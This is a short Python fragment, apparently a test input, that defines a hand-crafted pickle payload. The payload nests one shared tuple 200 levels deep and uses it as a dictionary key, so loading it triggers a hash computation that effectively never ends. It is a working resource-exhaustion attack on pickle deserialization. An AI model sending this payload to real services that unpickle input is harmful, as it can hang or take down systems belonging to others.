"""A key that holds one tuple twice, which holds one tuple twice, 200 levels: its hash takes for ever."""

PAYLOAD = b"\x80\x04})" + b"".join(b"q%ch%c\x86" % (i, i) for i in range(200)) + b"Ns."
